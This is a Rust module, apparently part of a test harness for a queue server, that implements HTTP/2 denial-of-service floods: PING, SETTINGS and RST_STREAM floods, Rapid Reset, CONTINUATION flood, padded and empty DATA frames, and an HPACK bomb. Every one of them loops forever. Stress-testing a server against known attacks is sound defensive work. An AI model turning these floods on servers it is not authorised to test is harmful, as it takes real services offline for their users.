//! Floods of frames that are small and cost the server work.

use bytes::Bytes;

use super::{
    Ended,
    calls::{GET_QUEUE, Head, PUBLISH, get_queue_body},
    line::Line,
    target::Target,
};
use crate::harness::{
    frames::{
        CONTINUATION, DATA, END_HEADERS, HEADERS, PADDED, PING, PRIORITY, RST_STREAM, SETTINGS, frame, reset,
        text, window,
    },
    http2::CANCEL,
};

/// The bytes of one write.
const WRITE: usize = 64 << 10;
/// The streams of one write of resets.
const STREAMS: usize = 64;

/// A connection that has made a call with a good token, so that it is no longer a stranger.
async fn settled(target: &Target) -> Result<Line, Ended> {
    let line = Line::open(target).await?;
    let id = line.begin(&Head::of(target, GET_QUEUE), false).await?;
    line.body(id, &get_queue_body(), true).await?;
    line.end(id).await?;
    Ok(line)
}

/// Repeats a frame for ever.
async fn flood(line: &Line, target: &Target, one: &[u8]) -> Result<(), Ended> {
    let count = WRITE / one.len();
    let bytes = one.repeat(count);
    loop {
        line.send(&bytes).await?;
        target.tally.add(count as u64);
    }
}

pub(super) async fn ping(target: Target) -> Result<(), Ended> {
    flood(&settled(&target).await?, &target, &frame(PING, 0, 0, &[7; 8])).await
}

pub(super) async fn settings(target: Target) -> Result<(), Ended> {
    flood(&settled(&target).await?, &target, &frame(SETTINGS, 0, 0, &[])).await
}

pub(super) async fn window_update(target: Target) -> Result<(), Ended> {
    flood(&settled(&target).await?, &target, &window(0, 1)).await
}

pub(super) async fn priority(target: Target) -> Result<(), Ended> {
    flood(&settled(&target).await?, &target, &frame(PRIORITY, 0, 99, &[0, 0, 0, 0, 16])).await
}

/// Resets streams that were never opened.
pub(super) async fn idle_resets(target: Target) -> Result<(), Ended> {
    let line = settled(&target).await?;
    flood(&line, &target, &frame(RST_STREAM, 0, 99, &CANCEL.to_be_bytes())).await
}

/// Sends frames of an unknown type, which a server has to ignore.
pub(super) async fn unknown(target: Target) -> Result<(), Ended> {
    flood(&settled(&target).await?, &target, &frame(0x42, 0xff, 0, &[])).await
}

/// Makes calls and resets them at once.
pub(super) async fn rapid_reset(target: Target, token: bool) -> Result<(), Ended> {
    let line = settled(&target).await?;
    let head = Head::new(GET_QUEUE, token.then_some(&*target.token));
    loop {
        let mut bytes = Vec::new();
        for id in line.reserve(STREAMS).await {
            bytes.extend(head.frames(id, false));
            bytes.extend(reset(id, CANCEL));
        }
        line.send(&bytes).await?;
        target.tally.add(STREAMS as u64);
    }
}

/// Sends a header block without an end.
pub(super) async fn continuation(target: Target, bytes: usize) -> Result<(), Ended> {
    let line = settled(&target).await?;
    let id = line.reserve(1).await[0];
    line.send(&frame(HEADERS, 0, id, Head::new(PUBLISH, None).block())).await?;
    let mut block = Vec::new();
    while bytes > block.len() {
        block.push(0);
        text(&mut block, "x-more");
        text(&mut block, &"y".repeat(500.min(bytes)));
    }
    flood(&line, &target, &frame(CONTINUATION, 0, id, &block)).await
}

/// Sends empty DATA frames.
pub(super) async fn empty_data(target: Target) -> Result<(), Ended> {
    let line = settled(&target).await?;
    let id = line.begin(&Head::of(&target, PUBLISH), false).await?;
    flood(&line, &target, &frame(DATA, 0, id, &[])).await
}

/// Sends a body of one declared message, each byte with 255 bytes of padding, within the windows.
pub(super) async fn padded(target: Target) -> Result<(), Ended> {
    const FRAMES: usize = 16;
    let line = settled(&target).await?;
    let padded: Bytes = frame(DATA, PADDED, 0, &[&[255, 0][..], &[0; 255]].concat());
    loop {
        let id = line.begin(&Head::of(&target, PUBLISH), false).await?;
        line.body(id, &super::calls::declared(4 << 20), false).await?;
        let mut one = padded.to_vec();
        one[5..9].copy_from_slice(&id.to_be_bytes());
        let (bytes, free) = (one.repeat(FRAMES), FRAMES * (one.len() - 9));
        'stream: for _ in 0..(4 << 20) / FRAMES {
            let mut sent_bytes = 0;
            while sent_bytes < free {
                match line.acquire(id, free - sent_bytes).await? {
                    0 => break 'stream,
                    some => sent_bytes += some,
                }
            }
            line.send(&bytes).await?;
            target.tally.add(FRAMES as u64);
        }
        line.end(id).await?;
    }
}

/// Sends a header field that is stored once and referred to thousands of times.
pub(super) async fn hpack_bomb(target: Target) -> Result<(), Ended> {
    let line = settled(&target).await?;
    let mut block = Head::new(PUBLISH, None).block().to_vec();
    block.push(0x40);
    text(&mut block, "x-bomb");
    text(&mut block, &"b".repeat(4_000));
    block.extend([0xbe; 3_000]);
    loop {
        for id in line.reserve(1).await {
            line.send(&frame(HEADERS, END_HEADERS, id, &block)).await?;
            target.tally.add(1);
        }
    }
}
